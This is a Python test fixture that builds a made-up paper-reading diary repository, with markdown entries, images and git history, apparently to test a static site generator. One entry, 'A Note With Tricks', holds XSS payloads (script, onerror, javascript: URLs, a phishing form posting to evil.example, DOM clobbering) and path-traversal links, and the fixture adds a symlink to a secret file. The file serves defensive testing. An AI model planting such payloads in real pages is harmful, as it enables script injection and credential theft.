"""A diary in the shapes real diaries take, for the site's tests: month folders and topic folders (names with
spaces, accents, ``:`` and ``?``), flat ``notes/``, a README with lessons by theme and a second index,
links written every way (``%20``, ``<…>``, raw spaces, reference style, ``/`` from the root, the
repository's own GitHub URLs, anchors, folders), images beside the entries, math, a hostile entry, a
symlink out of the diary, and git history dating the entries that say no date. All text is made up here.
"""

from __future__ import annotations

import os
import struct
import subprocess
import zlib
from dataclasses import dataclass
from datetime import date
from pathlib import Path

from tests.fakes.topic_diary import write_topic_diary

REPOSITORY = "https://github.com/ada-reads/paper-diary.git"
SECRET = "TOP-SECRET-OUTSIDE-THE-DIARY"


def png(width: int = 4, height: int = 3, rgb: tuple[int, int, int] = (40, 120, 200)) -> bytes:
    """A small valid PNG, so a browser really decodes the copied image."""
    rows = b"".join(b"\x00" + bytes(rgb) * width for _ in range(height))

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


README = """# Ada's Paper Diary
I read a paper most days and keep a note per paper here, by month in `June 2025/` and by topic in
[the robotics folder](Robótica/) and [notes](notes/). The [timeline](README_timeline.md) lists them by
month, and [how I write notes](CONTRIBUTING.md#style) says how I keep them.

## Interesting Methods and Lesson Learned
A sentence or two per idea worth keeping, with the entries it came from.

### Reinforcement Learning
1. **Long training keeps paying**: runs ten times longer still found new strategies ([ProRL](June%202025/4thJuneProlongedRL.md)).
2. Only a fifth of the tokens decide the reasoning path ([Forking tokens](<July 2025/11thJulyTokenEntropy.md#key-points>), [ProRL][prorl]).

### Robotics
1. Predicting a whole action chunk with diffusion beats one step at a time ([Diffusion Policy](Robótica/Diffusion%20Policy%3A%20Visuomotor%3F.md)).

### Self Improvement

## Full Diary
### June 2025
* 4th: [ProRL](June%202025/4thJuneProlongedRL.md): long RL runs.

[prorl]: /June%202025/4thJuneProlongedRL.md
"""

TIMELINE = """# Timeline
#### 2025-06
- [ProRL](https://github.com/ada-reads/paper-diary/blob/main/June%202025/4thJuneProlongedRL.md)
- [Attention notes](./notes/attention.md) [[figure](https://raw.githubusercontent.com/ada-reads/paper-diary/main/June%202025/imgs/Fig%201.png)]
#### 2025-07
- [Forking tokens](July 2025/11thJulyTokenEntropy.md)
- [A note I never wrote](notes/missing.md)
"""

CONTRIBUTING = """# How I write notes
## Style
One file per paper, the title as the first heading, then what it does. Back to the [diary](README.md).
"""

PRORL = """# ProRL: Prolonged Reinforcement Learning Expands Reasoning Boundaries
Date read: 4th June 2025

[arXiv](https://arxiv.org/abs/2505.24864)

## Key Points
- Training with **KL control** and reference resets for thousands of steps keeps improving pass@k.
- The loss is $\\mathcal{L} = -\\mathbb{E}[A_t \\log \\pi_\\theta(a_t)]$ with a KL term, and
$$\\mathrm{KL}(\\pi_\\theta \\| \\pi_{\\mathrm{ref}}) \\le \\epsilon$$

![Training curve](imgs/Fig%201.png)

## My Notes
See the [forking tokens](../July%202025/11thJulyTokenEntropy.md#my-notes) entry, and it costs $5 and $10 per run.
"""

FORKING = """# Beyond the 80/20 Rule: High-Entropy Minority Tokens Drive RLVR
Date read: 11th July 2025

[arXiv](https://arxiv.org/abs/2506.01939)

## Key Points
| tokens | share |
|---|---|
| forking | 20% |

- [x] read the appendix
- [ ] try it

## My Notes
Compare with [ProRL](<../June 2025/4thJuneProlongedRL.md>) and the [robot one](/Robótica/Diffusion%20Policy%3A%20Visuomotor%3F.md).

```math
H(p) = -\\sum_i p_i \\log p_i
```
"""

DIFFUSION = """## [Diffusion Policy: Visuomotor Policy Learning via Action Diffusion](https://arxiv.org/abs/2303.04137)

TLDR; A robot policy that denoises a chunk of future actions conditioned on camera images.

<img src="imgs/gripper.png" width="120" alt="The gripper">

Back to [the folder](./) and [home](../README.md#robotics).
"""

HOSTILE = """# A Note With Tricks
Date read: 2nd July 2025

<script>document.title = "owned"; window.pwned = 1;</script>
<img src="x.png" onerror="window.pwned = 2">
<a href="javascript:window.pwned = 3">click</a> <a href="data:text/html,<script>alert(1)</script>">data</a>
<iframe src="https://evil.example/"></iframe><style>body { display: none }</style>
<form action="https://evil.example/"><input type="password" name="p"></form>
<a id="__search" href="#">clobber</a> <div onclick="window.pwned = 4">press</div>

![remote pixel](https://tracker.example/pixel.png) and a [link out](https://example.org/paper) kept as it is.
[a secret](../../secret.txt), [a leak](../notes/leak.md) and [my state](.paperdiary/paperdiary.db) and [git](.git/config).
"""

ATTENTION = """## [Attention Is All You Need](http://arxiv.org/abs/1706.03762)

TLDR; Self-attention alone, no recurrence, for translation.

#### Key Points
- Multi-head attention, $\\mathrm{softmax}(QK^\\top/\\sqrt{d})V$.
- The [timeline](../README_timeline.md) has it in June.
"""


@dataclass(frozen=True)
class FixtureDiary:
    root: Path
    titles: dict[str, str]  # diary path -> title, for the hand-written entries
    generated: int  # the topic entries written besides them

    @property
    def entries(self) -> int:
        """How many notes the site has a page for (the index pages and the symlink out are none)."""
        return len(self.titles) + self.generated


def git(root: Path, *args: str, day: date | None = None) -> None:
    env = {**os.environ, "GIT_AUTHOR_NAME": "Ada", "GIT_AUTHOR_EMAIL": "ada@example.org",
           "GIT_COMMITTER_NAME": "Ada", "GIT_COMMITTER_EMAIL": "ada@example.org"}
    if day is not None:
        env["GIT_AUTHOR_DATE"] = env["GIT_COMMITTER_DATE"] = f"{day.isoformat()}T12:00:00+00:00"
    subprocess.run(["git", *args], cwd=root, env=env, check=True, capture_output=True)


def make_site_diary(root: Path, *, per_topic: int = 4, outside: Path | None = None) -> FixtureDiary:
    """Write the diary under ``root`` (a git repository whose origin is on github.com); ``outside``: a folder
    beside it for the file a symlink leads to."""
    root.mkdir(parents=True)
    files = {
        "README.md": README, "README_timeline.md": TIMELINE, "CONTRIBUTING.md": CONTRIBUTING,
        "June 2025/4thJuneProlongedRL.md": PRORL, "July 2025/11thJulyTokenEntropy.md": FORKING,
        "Robótica/Diffusion Policy: Visuomotor?.md": DIFFUSION, "notes/attention.md": ATTENTION,
        "July 2025/2ndJulyTricks.md": HOSTILE,
    }
    for relpath, text in files.items():
        path = root / relpath
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    (root / "June 2025/imgs").mkdir()
    (root / "June 2025/imgs/Fig 1.png").write_bytes(png())
    (root / "Robótica/imgs").mkdir()
    (root / "Robótica/imgs/gripper.png").write_bytes(png(rgb=(200, 80, 40)))
    generated = write_topic_diary(root / "by-month", per_topic, seed=3)
    secret = (outside or root.parent) / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    (root / "notes" / "leak.md").symlink_to(secret)
    git(root, "init", "-q", "-b", "main")
    git(root, "remote", "add", "origin", REPOSITORY)
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "diary", day=date(2025, 5, 20))
    titles = {"June 2025/4thJuneProlongedRL.md": "ProRL: Prolonged Reinforcement Learning Expands Reasoning Boundaries",
              "July 2025/11thJulyTokenEntropy.md": "Beyond the 80/20 Rule: High-Entropy Minority Tokens Drive RLVR",
              "Robótica/Diffusion Policy: Visuomotor?.md":
                  "Diffusion Policy: Visuomotor Policy Learning via Action Diffusion",
              "notes/attention.md": "Attention Is All You Need", "July 2025/2ndJulyTricks.md": "A Note With Tricks"}
    return FixtureDiary(root, titles, len(generated))
